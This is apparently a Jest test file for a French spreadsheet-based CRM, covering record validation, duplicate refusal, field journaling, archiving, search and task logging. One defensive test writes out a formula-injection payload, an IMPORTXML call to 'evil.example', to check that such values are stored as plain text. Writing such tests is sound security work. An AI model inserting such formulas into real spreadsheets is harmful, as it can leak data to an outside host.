/**
 * Records end to end on dist/Code.js: validation before any write, uniqueness, field-by-field
 * journal, archive, search, 360° card, interactions and tasks.
 */
import type { CardActivity, RecordCard, RecordDto, SearchHit } from '../../src/server/api/contract';
import { readSheetValues } from '../../src/local/server/sheet-views';
import type { LocalRuntime } from '../../src/local/runtime/runtime';
import { callApi, freshRuntime } from './helpers';

function failure(runtime: LocalRuntime, name: string, ...args: unknown[]) {
  const result = runtime.run({ functionName: name, args, kind: 'sidebar' });
  expect(result.ok).toBe(true);
  const envelope = result.value as {
    ok: boolean;
    code: string;
    message: string;
    fieldErrors?: Array<{ field: string; message: string }>;
  };
  expect(envelope.ok).toBe(false);
  return envelope;
}

function setup(now = new Date('2026-11-28T10:00:00Z')): { runtime: LocalRuntime; org: RecordDto } {
  const runtime = freshRuntime({ inMemory: true, now });
  callApi(runtime, 'setupStructure');
  const org = callApi<RecordDto>(runtime, 'createRecord', 'organisations', {
    nom: 'Commune d’Écully',
    type: 'Commune',
    siren: '216900811',
  });
  return { runtime, org };
}

const journalRows = (runtime: LocalRuntime) => readSheetValues(runtime, 'Journal', false).slice(1);

describe('records', () => {
  it('refuses an invalid contact with an error per field and writes nothing', () => {
    const { runtime } = setup();
    const before = readSheetValues(runtime, 'Contacts', false).length;
    const journalBefore = journalRows(runtime).length;
    const refused = failure(runtime, 'createRecord', 'contacts', {
      nom: '',
      email: 'jean@@exemple',
      telephone: '12',
    });
    expect(refused.code).toBe('VALIDATION');
    const fields = (refused.fieldErrors ?? []).map((e) => e.field).sort();
    expect(fields).toEqual(['email', 'nom', 'telephone']);
    expect(refused.fieldErrors?.find((e) => e.field === 'email')?.message).toContain(
      'jean@@exemple',
    );
    expect(readSheetValues(runtime, 'Contacts', false)).toHaveLength(before);
    expect(journalRows(runtime)).toHaveLength(journalBefore);
  });

  it('stores formula-like text as text even after a user reformatted the column', () => {
    const { runtime, org } = setup();
    runtime.withServices((services) => {
      const sheet = (services.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp)
        .getActiveSpreadsheet()
        .getSheetByName('Contacts') as GoogleAppsScript.Spreadsheet.Sheet;
      // "Format › Nombre › Automatique" on the whole tab.
      sheet.getRange(1, 1, sheet.getMaxRows(), sheet.getMaxColumns()).setNumberFormat('General');
    });
    const payload = '=IMPORTXML("https://evil.example/x";"//a")';
    const contact = callApi<RecordDto>(runtime, 'createRecord', 'contacts', {
      nom: '+Dupont',
      notes: payload,
      telephone: '06 12 34 56 78',
      organisationId: String(org.id),
    });
    const updated = callApi<RecordDto>(runtime, 'updateRecord', 'contacts', String(contact.id), {
      poste: '@directeur',
    });
    expect(updated).toMatchObject({
      nom: '+Dupont',
      notes: payload,
      telephone: '+33612345678',
      poste: '@directeur',
    });
    const rows = readSheetValues(runtime, 'Contacts', false);
    const header = rows[0] as string[];
    const row = rows[1] as unknown[];
    expect(row[header.indexOf('Notes')]).toBe(payload);
    expect(row[header.indexOf('Téléphone')]).toBe('+33612345678');
  });

  it('creates a contact normalised, refuses its duplicate, and journals each changed field', () => {
    const { runtime, org } = setup();
    const contact = callApi<RecordDto>(runtime, 'createRecord', 'contacts', {
      nom: 'Lefèvre',
      prenom: 'Émilie',
      email: ' Emilie.Lefevre@Example.FR ',
      telephone: '06 12 34 56 78',
      organisationId: String(org.id),
    });
    expect(contact).toMatchObject({
      id: 'CT-000001',
      email: 'emilie.lefevre@example.fr',
      telephone: '+33612345678',
      etat: 'Actif',
    });
    expect(
      failure(runtime, 'createRecord', 'contacts', {
        nom: 'Autre',
        email: 'emilie.lefevre@example.fr',
      }).code,
    ).toBe('CONFLICT');
    const updated = callApi<RecordDto>(runtime, 'updateRecord', 'contacts', 'CT-000001', {
      poste: 'Maire adjointe',
      email: 'emilie.lefevre@example.fr',
    });
    expect(updated.poste).toBe('Maire adjointe');
    const modifications = journalRows(runtime).filter((r) => r[2] === 'Modification');
    expect(modifications.map((r) => [r[4], r[5], r[6], r[7]])).toEqual([
      ['CT-000001', 'Poste', '', 'Maire adjointe'],
    ]);
  });

  it('refuses a reference to a record that does not exist', () => {
    const { runtime } = setup();
    const refused = failure(runtime, 'createRecord', 'contacts', {
      nom: 'X',
      organisationId: 'ORG-000099',
    });
    expect(refused.message).toBe('Organisation : « ORG-000099 » introuvable dans Organisations.');
  });

  it('archives instead of deleting, and archived records leave search', () => {
    const { runtime, org } = setup();
    expect(callApi<SearchHit[]>(runtime, 'searchRecords', 'ecully').map((h) => h.id)).toEqual([
      org.id,
    ]);
    callApi(runtime, 'archiveRecord', 'organisations', String(org.id));
    expect(callApi<RecordDto>(runtime, 'getRecord', 'organisations', String(org.id)).etat).toBe(
      'Archivé',
    );
    expect(callApi<SearchHit[]>(runtime, 'searchRecords', 'ecully')).toEqual([]);
    expect(journalRows(runtime).some((r) => r[2] === 'Archivage' && r[4] === org.id)).toBe(true);
  });

  it('logs an interaction: timeline, last interaction, next action and its task', () => {
    const { runtime, org } = setup();
    const contact = callApi<RecordDto>(runtime, 'createRecord', 'contacts', {
      nom: 'Martin',
      organisationId: String(org.id),
    });
    callApi(runtime, 'logInteraction', {
      contactId: String(contact.id),
      type: 'Appel',
      direction: 'Sortant',
      date: '2026-11-27T14:00:00+01:00',
      objet: 'Premier appel',
      prochaineAction: 'Envoyer la plaquette',
      prochaineActionLe: '2026-11-28',
    });
    const card = callApi<RecordCard>(runtime, 'getCard', 'organisations', String(org.id));
    expect(card.contacts.map((c) => c.id)).toEqual([contact.id]);
    expect(card.interactions.map((i) => i.objet)).toEqual(['Premier appel']);
    expect(card.tasks.map((t) => [t.titre, t.echeance])).toEqual([
      ['Envoyer la plaquette', '2026-11-28'],
    ]);
    const updated = callApi<RecordDto>(runtime, 'getRecord', 'contacts', String(contact.id));
    expect(updated).toMatchObject({
      derniereInteraction: '2026-11-27',
      prochaineAction: 'Envoyer la plaquette',
      prochaineActionLe: '2026-11-28',
    });

    const today = callApi<RecordDto[]>(runtime, 'getTodayTasks');
    expect(today.map((t) => t.titre)).toEqual(['Envoyer la plaquette']);
    callApi(runtime, 'completeTask', String(today[0]?.id));
    // A second click finds the task done and logs nothing more.
    callApi(runtime, 'completeTask', String(today[0]?.id));
    expect(callApi<RecordDto[]>(runtime, 'getTodayTasks')).toEqual([]);
    const after = callApi<CardActivity>(runtime, 'getActivity', 'contacts', String(contact.id));
    expect(after.tasks).toEqual([]);
    expect(after.interactions.map((i) => i.objet)).toEqual([
      'Tâche faite : Envoyer la plaquette',
      'Premier appel',
    ]);
  });

  it('opens the card of the row the cursor is on', () => {
    const { runtime, org } = setup();
    runtime.select('Organisations', 2, 3);
    expect(callApi<RecordCard | null>(runtime, 'getSelectedCard')?.record.id).toBe(org.id);
    runtime.select('Organisations', 1, 1);
    expect(callApi<RecordCard | null>(runtime, 'getSelectedCard')).toBeNull();
  });
});
